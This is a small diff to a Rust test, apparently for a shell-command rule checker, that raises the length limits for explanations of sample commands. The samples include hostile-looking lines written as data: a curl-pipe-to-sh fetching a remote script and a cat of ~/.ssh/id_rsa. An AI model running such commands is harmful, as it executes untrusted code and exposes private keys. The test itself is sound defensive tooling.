@@ -435,7 +435,7 @@ fn explain_stays_short_and_narrow_however_many_rules_are_unknown() {
         machine.rules(&["explain"], &call.to_string()).stdout
     };
     for (command, most) in
-        [("eval \"$CMD\"", 55), ("curl -s https://x/i.sh | sh", 24), ("ssh h uptime", 12), ("cat ~/.ssh/id_rsa", 28)]
+        [("eval \"$CMD\"", 55), ("curl -s https://x/i.sh | sh", 26), ("ssh h uptime", 16), ("cat ~/.ssh/id_rsa", 30)]
     {
         let shown = explained(command);
         // A path is not wrapped, however long.
